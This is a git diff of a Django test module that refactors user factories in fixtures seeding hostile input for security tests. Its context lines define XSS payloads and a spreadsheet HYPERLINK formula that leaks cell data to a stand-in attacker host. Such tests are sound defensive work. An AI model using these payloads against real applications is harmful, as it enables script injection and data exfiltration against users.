@@ -20,10 +20,16 @@ from certificates.services.issuing import certificate_issue
 from registration.models import Enrolment, Inquiry, InquiryTopic
 from registration.roles import COORDINATOR
 from registration.services.inquiries import inquiry_recipient
-from tests.factories import EnrolmentFactory, SessionFactory, login_staff
+from tests.factories import (
+    EnrolmentFactory,
+    SessionFactory,
+    StaffFactory,
+    TraineeFactory,
+    login_staff,
+)
 from tests.pdfs import pdf_text
 from tests.registration.flows import paid_order, session_of, text
-from tests.security.people import LAST_NOVEMBER, make_user
+from tests.security.world import LAST_NOVEMBER
 
 MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Claim your prize")'
@@ -62,7 +68,7 @@ def hostile(catalog, before_season, settings, tmp_path, django_capture_on_commit
     and an evaluation whose comments are HOSTILE."""
     settings.MEDIA_ROOT = str(tmp_path / "media")
     Offering.objects.filter(slug="module-1").update(title=TITLE)
-    trainee = make_user(legal_name=HOSTILE)
+    trainee = TraineeFactory(legal_name=HOSTILE, verified_email=True)
     with django_capture_on_commit_callbacks(execute=True):
         order = paid_order(trainee, session_of("module-1", 6))
         past = EnrolmentFactory(
@@ -90,7 +96,7 @@ def hostile(catalog, before_season, settings, tmp_path, django_capture_on_commit
 @pytest.fixture
 def coordinator_client(client, hostile):
 
-    login_staff(client, make_user(groups=(COORDINATOR,)))
+    login_staff(client, StaffFactory(roles=[COORDINATOR]))
     return client
 
 
